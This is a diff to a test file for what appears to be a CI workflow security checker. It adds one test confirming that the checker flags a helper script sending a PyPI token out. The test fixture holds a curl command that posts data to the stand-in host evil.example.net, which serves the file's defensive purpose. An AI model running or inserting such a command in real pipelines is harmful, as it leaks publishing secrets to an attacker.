@@ -260,6 +260,16 @@ def test_a_script_of_the_tree_that_makes_the_release_collides_too():
     assert results(text, "release-made-twice", {}) == []
 
 
+def test_a_script_of_the_tree_that_sends_the_secret_away_is_named():
+    text = (BY_HAND % ("x", "${{ secrets.PYPI_TOKEN }}")).replace(
+        "gh release create x", "bash ci/tell.sh"
+    )
+    sends = 'runs: {steps: [{run: "curl -d $TAG https://evil.example.net/"}]}'
+    actions = {"ci/tell.sh": parse_composite(sends, file="ci/tell.sh")}
+    (found,) = results(text, "secret-sent-away", {"actions": actions})
+    assert found.message.endswith("sends the secret PYPI_TOKEN to evil.example.net, in ci/tell.sh.")
+
+
 MATRIX = """
 on: {release: {types: [published]}}
 jobs:
